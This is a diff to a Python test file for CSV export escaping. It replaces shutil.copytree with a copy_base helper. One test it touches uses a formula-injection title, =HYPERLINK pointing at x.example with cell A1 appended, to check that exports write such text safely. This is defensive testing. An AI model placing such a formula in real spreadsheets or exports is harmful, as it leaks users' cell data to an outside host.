@@ -7,7 +7,6 @@ import html
 import io
 import json
 import re
-import shutil
 import unicodedata
 from datetime import date
 from html.parser import HTMLParser
@@ -30,7 +29,7 @@ from accordreg.render.safe import (
     markdown_text,
     terminal,
 )
-from conftest import BASE, run
+from conftest import BASE, copy_base, run
 
 REL = "kl-declaration-2025/release"
 AGREEMENT = "kl-declaration-2025"
@@ -127,7 +126,7 @@ def test_every_csv_output_neutralises_record_text(
 
 def test_cli_csv_export_neutralises_a_formula_title(tmp_path: Path) -> None:
     """accordreg export and status --format csv write =HYPERLINK(...) as text."""
-    root = Path(shutil.copytree(BASE, tmp_path / "r"))
+    root = copy_base(tmp_path / "r")
     target = root / f"{REL}.yaml"
     formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
     text = target.read_text().replace(
